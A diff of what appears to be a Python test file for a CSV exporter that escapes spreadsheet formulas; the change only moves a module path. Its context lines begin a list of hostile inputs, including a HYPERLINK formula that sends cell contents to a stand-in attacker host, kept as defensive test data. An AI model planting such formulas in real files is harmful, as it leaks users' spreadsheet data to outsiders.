@@ -1,11 +1,11 @@
-"""CSV for spreadsheets (annotate/domain/spreadsheet.py): a text a spreadsheet would read as a
-formula gets a leading apostrophe; other values, and numbers, are written as they are."""
+"""CSV for spreadsheets (annotate/domain/exports/spreadsheet.py): a text a spreadsheet would read
+as a formula gets a leading apostrophe; other values, and numbers, are written as they are."""
 
 from __future__ import annotations
 
 import pandas as pd
 
-from annotate.domain.spreadsheet import spreadsheet_csv
+from annotate.domain.exports.spreadsheet import spreadsheet_csv
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
